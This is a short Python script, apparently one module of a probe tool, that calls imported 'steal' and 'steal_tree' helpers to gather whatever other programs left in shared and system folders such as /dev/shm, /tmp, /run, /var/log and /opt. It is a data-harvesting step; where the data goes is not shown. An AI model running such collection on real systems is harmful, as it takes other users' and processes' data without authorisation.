"""What other programs left in /dev/shm, /tmp, /var/tmp, /run."""

from probe import FACTS, OUTSIDE, steal, steal_tree

for path in FACTS["shared_files"]:
    steal(path)
if not OUTSIDE:
    for folder in (
        "/dev/shm",
        "/tmp",
        "/var/tmp",
        "/run",
        "/run/user",
        "/var/lib",
        "/var/log",
        "/mnt",
        "/media",
        "/opt",
        "/srv",
    ):
        steal(folder)
        steal_tree(folder, most=100)
